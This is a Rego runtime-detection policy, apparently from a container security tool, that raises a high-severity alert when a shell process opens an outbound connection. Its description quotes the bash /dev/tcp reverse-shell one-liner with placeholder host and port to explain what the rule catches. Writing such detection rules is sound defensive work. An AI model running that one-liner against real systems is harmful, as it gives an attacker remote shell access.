# METADATA
# title: Outbound connection from a shell
# description: >-
#   A shell process itself opened an outbound network connection. Shells do not speak network
#   protocols; one that connects is using bash's /dev/tcp redirection, which is how the most
#   common one-line reverse shell (`bash -i >& /dev/tcp/HOST/PORT 0>&1`) reaches its controller
#   without any other tool. Loopback connections (health checks) and destinations the behaviour
#   model of this image has learned (wait-for-it style startup checks) are left out. Applies to
#   containers and, with --host, to host processes.
# related_resources:
# - https://attack.mitre.org/techniques/T1059/004/
# - https://www.gnu.org/software/bash/manual/html_node/Redirections.html
# custom:
#   id: PAL-RT-018
#   severity: HIGH
#   input: runtime
#   events: [connect]
#   remediation: >-
#     Check the destination and the shell's parent; if it is not a startup check you recognise,
#     treat the workload as compromised and isolate it. Restrict egress with NetworkPolicies.
#   compliance:
#   - nist-800-190:4.4.2
#   - nist-800-190:4.4.4
#   - nsa-cisa-1.2:network-policies
#   - pci-dss-4.0:11.5.1
package palisade.runtime.shell_connect

import data.lib.runtime as rt

deny contains res if {
	rt.event_type == "connect"
	input.network.direction == "outbound"
	rt.shell_process
	not rt.loopback_address(input.network.address)
	not rt.known_destination
	res := {"msg": sprintf("Shell %s in %s connected to %s port %d, started by %s: %s", [rt.proc_desc, rt.where, input.network.address, input.network.port, rt.parent_desc, rt.command])}
}
